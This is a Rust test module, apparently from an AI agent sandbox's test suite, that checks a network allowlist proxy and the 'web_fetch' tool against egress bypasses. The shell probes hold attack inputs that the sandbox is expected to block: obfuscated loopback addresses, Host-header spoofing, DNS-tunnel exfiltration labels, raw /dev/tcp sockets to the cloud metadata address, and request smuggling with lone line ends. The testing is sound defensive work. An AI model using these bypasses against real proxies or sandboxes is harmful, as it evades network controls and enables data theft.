//! E, where the network is a list of hosts: nothing but the list keeps commands and web tools from a
//! host that is open to them otherwise.

use serde_json::json;
use testkit::{WebReply, WebServer};

use super::e_network::{STATUS, own_address};
use super::stand::{Stand, Tier, User, call};
use super::table::{Column, Probe, run};

pub(super) const PROBES: &[Probe] = &[
    run("E17", "with a list: a listed host answers"),
    run("E18", "hosts that are not on it, however they are written"),
    run("E19", "a listed host with another one in `Host`"),
    run("E20", "names for a tunnel through the name server"),
    run(
        "E21",
        "the address that stands for one name, used for another",
    ),
    run("E22", "past the proxy: raw sockets, addresses, other ports"),
    run("E23", "two requests in one by lone line ends"),
    run(
        "E24",
        "`web_fetch`: a host that is not listed, a redirect to one",
    ),
];

/// Names that are listed, besides the one that answers. They exist nowhere.
const LISTED: &str = "localhost, listed.test, *.below.test";

const SCRIPTS: &[(&str, &str)] = &[
    (
        "E17",
        "NO_PROXY= no_proxy= curl -sS http://localhost:$ALLOWED/ | grep -q 'page of the host'",
    ),
    (
        "E18",
        "for each in 127.0.0.1 127.1 2130706433 0x7f000001 '[::ffff:127.0.0.1]' '[::1]' localhost.evil.test \
         xlocalhost below.test below.test.evil.test listed.test.evil.test notlisted.test example.com \
         localhost@127.0.0.1 127.0.0.1#localhost 'localhost%00.evil.test'; do \
         for how in \"CONNECT $each:$OTHER\" \"GET http://$each:$OTHER/\" \"GET http://$each/\"; do \
         got=$(status $how); case $got in 400|403) ;; *) echo $how $got; exit 1; esac; done; done; \
         [ $(status CONNECT localhost:$OTHER) = 403 ] && [ $(status CONNECT localhost:22) = 403 ]",
    ),
    (
        "E19",
        "for each in \"127.0.0.1:$OTHER\" evil.test; do \
         NO_PROXY= no_proxy= curl -sS -H \"Host: $each\" http://localhost:$ALLOWED/host | grep -q \"localhost:$ALLOWED\" || exit 1; done",
    ),
    (
        "E20",
        "for each in c2VjcmV0.tunnel.test c2VjcmV0.listed.test c2VjcmV0.evil.below.test.evil.test \
         $(printf 'a%.0s' $(seq 63)).tunnel.test example.com; do never getent ahosts $each; done; \
         for each in $ADDRESSES 8.8.8.8; do never_do \"echo x > /dev/udp/$each/53\"; done",
    ),
    (
        "E21",
        "one=$(getent ahostsv4 listed.test | head -1); one=${one%% *}; [ -n \"$one\" ] || exit 1; \
         code() { curl -sS --max-time 20 --noproxy '*' --resolve \"$1:80:$2\" -o got -w '%{http_code}' http://$1/; }; \
         [ $(code evil.test $one) = 421 ] && [ $(code below.test $one) = 421 ] && [ $(code localhost $one) = 421 ] || exit 1; \
         [ $(code listed.test $one) = 502 ] || exit 1; \
         never curl -sSk --max-time 20 --noproxy '*' --resolve \"evil.test:443:$one\" https://evil.test/; \
         for each in 127.1.99.99 127.0.0.1; do never code evil.test $each; done",
    ),
    (
        "E22",
        "for each in 127.0.0.1 $ADDRESSES; do for port in $OTHER $ALLOWED $PORT; do \
         never_do \"exec 3<>/dev/tcp/$each/$port\"; done; done; never_do 'exec 3<>/dev/tcp/169.254.169.254/80'; ./probe sockets",
    ),
    (
        "E23",
        "raw() { exec 5<>/dev/tcp/127.0.0.1/3128; printf \"$1\" >&5; read -r -t 20 version code rest <&5; exec 5>&-; [ \"$code\" = 400 ]; }; \
         start=\"GET http://localhost:$ALLOWED/ HTTP/1.1\\r\\nA: b\"; \
         raw \"$start\\nHost: evil.test\\r\\n\\r\\n\" && raw \"$start\\rHost: evil.test\\r\\n\\r\\n\" && \
         raw \"$start\\n\\nGET http://127.0.0.1:$OTHER/ HTTP/1.1\\r\\n\\r\\n\"",
    ),
];

/// What a stand with a list holds off.
pub(super) async fn attack(user: User, tier: &Tier, column: &mut Column) {
    let other = WebServer::start(|_| WebReply::page("closed page of the host")).await;
    let elsewhere = format!("http://127.0.0.1:{}/", other.port());
    let allowed = WebServer::start(move |request| match request.target.as_str() {
        "/redirect" => WebReply::redirect(elsewhere.clone()),
        "/host" => WebReply::page(request.headers["host"].to_str().unwrap().to_owned()),
        _ => WebReply::page("open page of the host"),
    })
    .await;
    let (open, closed) = (allowed.port(), other.port());
    let variables = [
        ("SIGMIC_SANDBOX__NETWORK", "allowlist".to_owned()),
        ("SIGMIC_SANDBOX__NETWORK_ALLOW", LISTED.to_owned()),
        (
            "SIGMIC_ALLOW_PRIVATE_HOSTS",
            format!("localhost:{open}, 127.0.0.1:{closed}"),
        ),
    ];
    let stand = Stand::start(user, tier, &variables).await;
    let facts = [
        ("ADDRESSES", own_address()),
        ("ALLOWED", open.to_string()),
        ("OTHER", closed.to_string()),
    ];
    let scripts: Vec<(&'static str, String)> = SCRIPTS
        .iter()
        .map(|(id, script)| (*id, format!("{STATUS}{script}")))
        .collect();
    let scripts: Vec<_> = scripts
        .iter()
        .map(|(id, script)| (*id, script.as_str()))
        .collect();
    stand.inside(column, &scripts, &facts).await;
    fetched(&stand, open, closed, column).await;
    let seen = other.requests();
    for id in ["E18", "E21", "E22", "E23", "E24"] {
        column.check(id, seen.is_empty(), format!("{seen:?}"));
    }
}

/// The server itself fetches, for a task under the same list.
async fn fetched(stand: &Stand, open: u16, closed: u16, column: &mut Column) {
    let urls = [
        format!("http://localhost:{open}/"),
        format!("http://127.0.0.1:{closed}/"),
        format!("http://localhost:{open}/redirect"),
    ];
    let calls = urls.map(|url| call("web_fetch", &json!({"url": url})));
    let ran = stand.run(&calls).await;
    let works = ran.outputs[0].contains("open page of the host");
    column.check("E24", works, &ran.outputs[0]);
    for output in &ran.outputs[1..] {
        let refused = output.contains("not on the list") && !output.contains("closed page");
        column.check("E24", refused, output);
    }
}
